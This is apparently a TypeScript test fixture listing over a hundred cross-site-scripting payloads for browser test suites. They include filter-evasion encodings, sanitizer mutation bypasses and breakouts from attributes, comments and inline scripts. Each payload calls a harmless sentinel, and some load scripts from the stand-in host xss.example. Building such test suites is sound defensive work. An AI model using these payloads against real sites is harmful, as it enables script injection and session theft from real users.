/**
 * Cross-site-scripting payloads for the hostile-input suites: the OWASP XSS
 * filter evasion cheat sheet's vectors, published DOMPurify and React
 * bypasses, and breakouts from the contexts a server's data is printed in
 * (attributes, inline JSON, comments, raw-text elements), each in its plain
 * and encoded forms. Every payload calls the sentinel `__cestaXss( id )` when
 * it runs (or loads a script from `xss.example`), so a browser suite counts
 * what executed instead of guessing from the markup, and opens with a marker
 * (`xss-017`) a page shows as text, which proves the field was rendered.
 */

/** The global function a payload calls when it runs. */
export const XSS_SENTINEL = '__cestaXss';

/** The host a payload loads scripts, frames and styles from. */
export const XSS_HOST = 'xss.example';

/** One payload: what it tries, its id, its marker and its full text. */
export interface HostilePayload {
	/** 1-based, unique. */
	id: number;
	/** What the payload tries, e.g. 'img onerror'. */
	name: string;
	/** The text a page shows when the field is rendered, e.g. `xss-017`. */
	marker: string;
	/** The marker, a space, then the attack. */
	text: string;
}

/** `%J%` is the sentinel call, `%ID%` the payload's id, `%B64%` the call in base64. */
const VECTORS: ReadonlyArray< readonly [ string, string ] > = [
	[ 'inline script', '<script>%J%</script>' ],
	[ 'inline script, upper case', '<SCRIPT>%J%</SCRIPT>' ],
	[ 'module script', '<script type="module">%J%</script>' ],
	[ 'external script', '<script src="https://xss.example/%ID%.js"></script>' ],
	[ 'split script tag', '<scr<script>ipt>%J%</scr</script>ipt>' ],
	[ 'script hidden in a comment', '<script>/*</script><img src=x onerror=%J%>*/</script>' ],
	[ 'img onerror', '<img src=x onerror=%J%>' ],
	[ 'img onerror, quoted', '<img src="x" onerror="%J%">' ],
	[ 'img onerror, mixed case', '<IMG SRC=x OnErRoR=%J%>' ],
	[ 'img onerror, slashes for spaces', '<img/src=x/onerror=%J%>' ],
	[ 'img onerror, backtick', '<img src=`x` onerror=%J%>' ],
	[ 'img onerror, unclosed', '<img src=x onerror=%J% ' ],
	[ 'img onerror, entity-encoded handler', '<img src=x onerror="&#95;&#95;cestaXss(%ID%)">' ],
	[ 'img onerror, hex entities', '<img src=x onerror="&#x5f;&#x5f;cestaXss&#x28;%ID%&#x29;">' ],
	[ 'img onerror, base64 eval', '<img src=x onerror=eval(atob("%B64%"))>' ],
	[ 'img onerror, bracket access', '<img src=x onerror=window["__cesta"+"Xss"](%ID%)>' ],
	[ 'img onerror, top frame', '<img src=x onerror=top.__cestaXss(%ID%)>' ],
	[ 'img javascript: src', '<img src="javascript:%J%">' ],
	[ 'img data: svg src', '<img src="data:image/svg+xml,<svg onload=%J%>">' ],
	[ 'img srcset javascript:', '<img src="/a.jpg" srcset="/a.jpg 1x, javascript:%J% 2x">' ],
	[
		'img onload of a data image',
		'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=%J%>',
	],
	[ 'img dynsrc', '<img dynsrc="javascript:%J%">' ],
	[ 'img lowsrc', '<img lowsrc="javascript:%J%">' ],
	[ 'image input onerror', '<input type="image" src=x onerror=%J%>' ],
	[ 'svg onload', '<svg onload=%J%>' ],
	[ 'svg onload, slash', '<svg/onload=%J%>' ],
	[ 'svg onload, unclosed', '<svg onload=%J%//' ],
	[ 'script inside svg', '<svg><script>%J%</script></svg>' ],
	[ 'svg animate onbegin', '<svg><animate onbegin=%J% attributeName=x dur=1s></svg>' ],
	[
		'svg set to javascript:',
		'<svg><a><set attributeName=href to="javascript:%J%"/><text x=9 y=9>x</text></a></svg>',
	],
	[
		'svg animate values javascript:',
		'<svg><a><animate attributeName=href values="javascript:%J%"/><text x=9 y=9>x</text></a></svg>',
	],
	[
		'svg link with xlink:href',
		'<svg><a xlink:href="javascript:%J%"><text x="20" y="20">x</text></a></svg>',
	],
	[ 'svg image onerror', '<svg><image href=x onerror=%J%></image></svg>' ],
	[
		'svg foreignObject iframe',
		'<svg><foreignObject><iframe src="javascript:%J%"></iframe></foreignObject></svg>',
	],
	[ 'svg style mutation', '<svg></p><style><a id="</style><img src=1 onerror=%J%>">' ],
	[ 'svg style holding markup', '<svg><style><img src=x onerror=%J%></style></svg>' ],
	[
		'mathml style mutation',
		'<math><mtext><table><mglyph><style><img src=x onerror=%J%></style></mglyph></table></mtext></math>',
	],
	[
		'mathml form mutation',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=%J%>',
	],
	[
		'mathml maction link',
		'<math><maction actiontype="statusline" xlink:href="javascript:%J%">x</maction></math>',
	],
	[ 'mathml href', '<math href="javascript:%J%">x</math>' ],
	[
		'noscript title mutation',
		'<noscript><p title="</noscript><img src=x onerror=%J%>"></noscript>',
	],
	[ 'template content', '<template><img src=x onerror=%J%></template>' ],
	[ 'comment breakout', '--><img src=x onerror=%J%>' ],
	[ 'comment inside attribute', '<!--<img src="--><img src=x onerror=%J%//">' ],
	[ 'textarea breakout', '</textarea><img src=x onerror=%J%>' ],
	[ 'title breakout', '</title><img src=x onerror=%J%>' ],
	[ 'style breakout', '</style><img src=x onerror=%J%>' ],
	[ 'script breakout (inline JSON)', '</script><script>%J%</script>' ],
	[ 'script breakout, upper case', '</SCRIPT><svg onload=%J%>' ],
	[ 'double-quoted attribute breakout', '"><img src=x onerror=%J%>' ],
	[ 'single-quoted attribute breakout', "'><svg onload=%J%>" ],
	[ 'attribute breakout into a handler', '" autofocus onfocus=%J% x="' ],
	[ 'unquoted attribute breakout', 'x onmouseover=%J%' ],
	[ 'entity-encoded tag', '&lt;img src=x onerror=%J%&gt;' ],
	[ 'numeric-entity tag', '&#60;img src=x onerror=%J%&#62;' ],
	[ 'double-encoded tag', '&amp;lt;img src=x onerror=%J%&amp;gt;' ],
	[ 'url-encoded tag', '%3Cimg%20src%3Dx%20onerror%3D%J%%3E' ],
	[ 'javascript: link', '<a href="javascript:%J%">pulsa</a>' ],
	[ 'javascript: link, mixed case', '<a href="JaVaScRiPt:%J%">pulsa</a>' ],
	[ 'javascript: link with a tab', '<a href="java\tscript:%J%">pulsa</a>' ],
	[ 'javascript: link with an encoded tab', '<a href="java&#x09;script:%J%">pulsa</a>' ],
	[ 'javascript: link with a newline entity', '<a href="jav&NewLine;ascript:%J%">pulsa</a>' ],
	[ 'javascript: link, leading space', '<a href=" javascript:%J%">pulsa</a>' ],
	[ 'javascript: link, control character', '<a href="&#14; javascript:%J%">pulsa</a>' ],
	[
		'javascript: link, decimal entities',
		'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;%J%">pulsa</a>',
	],
	[ 'javascript: link, padded entities', '<a href="&#0000106;&#0000097;vascript:%J%">pulsa</a>' ],
	[
		'javascript: link, hex entities',
		'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;%J%">pulsa</a>',
	],
	[ 'javascript: link, named colon', '<a href="javascript&colon;%J%">pulsa</a>' ],
	[ 'vbscript: link', '<a href="vbscript:msgbox(%ID%)">pulsa</a>' ],
	[
		'data: html link',
		'<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jZXN0YVhzcygpPC9zY3JpcHQ+">pulsa</a>',
	],
	[ 'data: svg link', '<a href="data:image/svg+xml,<svg onload=%J%>">pulsa</a>' ],
	[ 'link onclick', '<a href="#" onclick="%J%">pulsa</a>' ],
	[ 'link onfocus autofocus', '<a href="#" autofocus onfocus=%J%>pulsa</a>' ],
	[ 'link with a clobbering id', '<a id="location" href="javascript:%J%">pulsa</a>' ],
	[ 'iframe javascript: src', '<iframe src="javascript:%J%"></iframe>' ],
	[ 'iframe srcdoc', '<iframe srcdoc="&lt;script&gt;parent.%J%&lt;/script&gt;"></iframe>' ],
	[ 'iframe data: src', '<iframe src="data:text/html,<script>parent.%J%</script>"></iframe>' ],
	[ 'iframe onload', '<iframe onload=%J%></iframe>' ],
	[ 'iframe from another host', '<iframe src="https://xss.example/%ID%.html"></iframe>' ],
	[ 'object javascript: data', '<object data="javascript:%J%"></object>' ],
	[ 'object data: html', '<object data="data:text/html,<script>parent.%J%</script>"></object>' ],
	[
		'object scriptlet',
		'<object type="text/x-scriptlet" data="https://xss.example/%ID%.sct"></object>',
	],
	[ 'embed javascript: src', '<embed src="javascript:%J%">' ],
	[ 'embed data: html', '<embed src="data:text/html,<script>parent.%J%</script>">' ],
	[ 'form javascript: action', '<form action="javascript:%J%"><button>Pagar</button></form>' ],
	[ 'button formaction', '<form><button formaction="javascript:%J%">Pagar</button></form>' ],
	[ 'input autofocus onfocus', '<input autofocus onfocus=%J%>' ],
	[ 'select autofocus onfocus', '<select autofocus onfocus=%J%></select>' ],
	[ 'textarea autofocus onfocus', '<textarea autofocus onfocus=%J%></textarea>' ],
	[ 'details ontoggle', '<details open ontoggle=%J%>' ],
	[ 'body onload', '<body onload=%J%>' ],
	[ 'video source onerror', '<video><source onerror=%J%></video>' ],
	[ 'audio onerror', '<audio src=x onerror=%J%></audio>' ],
	[ 'video poster javascript:', '<video poster="javascript:%J%"></video>' ],
	[ 'marquee onstart', '<marquee onstart=%J%>x</marquee>' ],
	[ 'div onmouseover', '<div onmouseover=%J%>pasa</div>' ],
	[ 'custom element onclick', '<x-cesta onclick=%J%>pulsa</x-cesta>' ],
	[ 'table background javascript:', '<table><td background="javascript:%J%">x</td></table>' ],
	[ 'style attribute javascript: url', '<div style="background:url(javascript:%J%)">x</div>' ],
	[ 'style import', "<style>@import 'https://xss.example/%ID%.css';</style>" ],
	[
		'style list-style-image',
		'<style>li{list-style-image:url("javascript:%J%")}</style><ul><li>x</li></ul>',
	],
	[ 'stylesheet link', '<link rel="stylesheet" href="https://xss.example/%ID%.css">' ],
	[ 'meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:%J%">' ],
	[ 'base href', '<base href="javascript:%J%//">' ],
	[
		'clobbering form name',
		'<form name="cookie"><img name="getElementById" src=x onerror=%J%></form>',
	],
	[ 'xmp raw text', '<xmp><img src=x onerror=%J%></xmp>' ],
	[ 'template literal injection', '${%J%}{{constructor.constructor("%J%")()}}' ],
];

/**
 * Every payload, numbered from 1 (more than 100).
 *
 * @example
 * const [ first ] = XSS_PAYLOADS; // { id: 1, name: 'inline script', marker: 'xss-001', text: 'xss-001 <script>…' }
 */
export const XSS_PAYLOADS: readonly HostilePayload[] = VECTORS.map(
	( [ name, template ], index ) => {
		const id = index + 1;
		const call = `${ XSS_SENTINEL }(${ id })`;
		const marker = `xss-${ String( id ).padStart( 3, '0' ) }`;
		const attack = template
			.replaceAll( '%J%', call )
			.replaceAll( '%ID%', String( id ) )
			.replaceAll( '%B64%', Buffer.from( call ).toString( 'base64' ) );
		return Object.freeze( { id, name, marker, text: `${ marker } ${ attack }` } );
	}
);

/**
 * The payload whose marker is `marker`, e.g. from a page's text.
 *
 * @example
 * payloadByMarker( 'xss-017' )?.name; // 'img top frame…'
 */
export function payloadByMarker( marker: string ): HostilePayload | undefined {
	return XSS_PAYLOADS.find( ( payload ) => payload.marker === marker );
}

/**
 * The markers in `text` (a page's or an element's text).
 *
 * @example
 * markersIn( 'xss-001 Ventilador xss-042' ); // [ 'xss-001', 'xss-042' ]
 */
export function markersIn( text: string ): string[] {
	return [ ...new Set( text.match( /xss-\d{3}/g ) ?? [] ) ];
}
